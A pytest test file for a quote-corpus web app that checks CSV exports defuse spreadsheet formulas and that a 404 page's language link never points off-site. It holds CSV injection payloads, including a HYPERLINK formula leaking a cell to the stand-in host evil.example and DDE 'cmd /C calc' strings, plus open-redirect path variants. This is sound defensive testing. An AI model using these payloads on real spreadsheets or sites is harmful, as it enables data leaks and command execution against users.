"""What stored text and a crafted address can do to a reader of the web UI or of an export (issue 10).

CSV exports, from the command line and from the API, over a real SQLite store holding quotes that
a spreadsheet would run as formulas; and the 404 page at addresses that a naive language switch
turns into a link to another site.
"""
from __future__ import annotations

import csv
import hashlib
import html
import io
import re
from dataclasses import replace
from urllib.parse import urlsplit

import pytest
from conftest import DATA
from fastapi.testclient import TestClient

import skazal
from skazal.cli import main
from skazal.records import IngestedPage, Quote, Speaker
from skazal.store import open_store
from skazal.web import create_app

# Payloads of the kind OWASP lists for CSV injection, one for each character a spreadsheet reads as a formula.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")',
    "+7 (495) 123-45-67+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
ADDRESS = "https://example.org/formulas"


def page_with_formulas() -> IngestedPage:
    """The seed page, republished with a paragraph quoting each formula as Lukashenko's words."""
    seed = skazal.extract((DATA / "texts" / "zerkalo-lukashenko-it.txt").read_text(encoding="utf-8"))
    body = seed.body + "".join(f"\n\n«{formula}», — сказал Александр Лукашенко." for formula in FORMULAS)
    quotes = tuple(
        Quote(kind="direct", text=formula, start=body.index(formula), end=body.index(formula) + len(formula),
              speaker=Speaker(name="Александр Лукашенко", type="PER"), confidence=0.9)
        for formula in FORMULAS
    )
    article = replace(seed.article, body=body, title="=1+1 Лукашенко об айтишниках")
    return IngestedPage(location=ADDRESS, url=ADDRESS, outlet="example.org",
                        content_hash=hashlib.sha256(body.encode()).hexdigest(),
                        page=replace(seed, article=article, quotes=quotes), fetched_at="2024-05-01T10:00:00+00:00")


@pytest.fixture(scope="module")
def corpus_path(tmp_path_factory):
    path = str(tmp_path_factory.mktemp("formulas") / "corpus.db")
    with open_store(path) as store:
        store.upgrade()
        store.save_pages([page_with_formulas()])
    return path


@pytest.fixture(scope="module")
def client(corpus_path):
    with open_store(corpus_path) as store, TestClient(create_app(store)) as opened:
        yield opened


def assert_no_formula_runs(table: str) -> list[dict]:
    rows = list(csv.DictReader(io.StringIO(table)))
    texts = {row["text"] for row in rows}
    assert texts == {"'" + formula for formula in FORMULAS}
    assert not [cell for row in rows for cell in row.values() if cell.startswith(FORMULA_STARTS)]
    return rows


def test_the_command_line_csv_export_defuses_formulas(corpus_path, capsys, tmp_path):
    assert main(["quotes", "--db", corpus_path, "--format", "csv"]) == 0
    assert_no_formula_runs(capsys.readouterr().out)

    saved = tmp_path / "quotes.csv"
    assert main(["quotes", "--db", corpus_path, "--format", "csv", "--output", str(saved)]) == 0
    assert_no_formula_runs(saved.read_text(encoding="utf-8"))


@pytest.mark.parametrize("ask", [{"params": {"format": "csv"}}, {"headers": {"Accept": "text/csv"}}],
                         ids=["format", "accept"])
def test_api_csv_defuses_formulas_and_is_a_download_never_sniffed(client, ask):
    response = client.get("/api/quotes", **ask)

    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["content-disposition"] == 'attachment; filename="quotes.csv"'
    assert_no_formula_runs(response.text)


def test_every_api_csv_table_defuses_the_title_and_the_quotes(client):
    document_id = client.get("/api/quotes").json()["items"][0]["document_id"]

    search = client.get("/api/search", params={"q": "айтишник", "format": "csv"})
    quotes = client.get(f"/api/documents/{document_id}", params={"format": "csv"})

    titles = {row["title"] for row in csv.DictReader(io.StringIO(search.text))}
    assert titles == {"'=1+1 Лукашенко об айтишниках"}
    assert_no_formula_runs(quotes.text)
    assert quotes.headers["content-disposition"] == f'attachment; filename="document-{document_id}-quotes.csv"'


# The reproducers, and the same trick spelt with more slashes, a backslash and a tab: each path,
# and where the 404 page's switch to Russian must lead (a path of this site).
OFF_SITE = {
    "//evil.example/x": "/evil.example/x?lang=ru",
    "/%2F%2Fevil.example/x": "/evil.example/x?lang=ru",
    "///evil.example/x": "/evil.example/x?lang=ru",
    "/%2F/evil.example/x": "/evil.example/x?lang=ru",
    "/\\evil.example/x": "/%5Cevil.example/x?lang=ru",
    "/%5Cevil.example/x": "/%5Cevil.example/x?lang=ru",
    "/%09/evil.example/x": "/evil.example/x?lang=ru",
    "//%09/evil.example/x": "/evil.example/x?lang=ru",
}


def browser_reading(link: str) -> str:
    """A link as a browser parses it: tabs and newlines dropped, a backslash read as a slash."""
    return re.sub(r"[\t\n\r]", "", html.unescape(link)).replace("\\", "/")


@pytest.mark.parametrize("path", OFF_SITE)
def test_the_404_page_links_only_to_this_site(client, path):
    """The language switch of a 404 page at "//evil.example/x" led to evil.example."""
    response = client.get(f"http://testserver{path}", params={"lang": "en"})

    assert response.status_code == 404
    links = re.findall(r'(?:href|src|action)="([^"]*)"', response.text)
    switch = re.search(r'<a class="language" href="([^"]*)"', response.text).group(1)
    assert html.unescape(switch) == OFF_SITE[path]
    for link in links:
        address = urlsplit(browser_reading(link))
        assert (address.scheme, address.netloc) == ("", ""), link
        assert address.path.startswith("/") and not address.path.startswith("//"), link


def test_the_language_switch_keeps_the_page_and_its_query(client):
    response = client.get("/search", params={"q": "айтишник", "lang": "ru"})

    switch = html.unescape(re.search(r'<a class="language" href="([^"]*)"', response.text).group(1))
    assert switch == "/search?q=%D0%B0%D0%B9%D1%82%D0%B8%D1%88%D0%BD%D0%B8%D0%BA&lang=en"
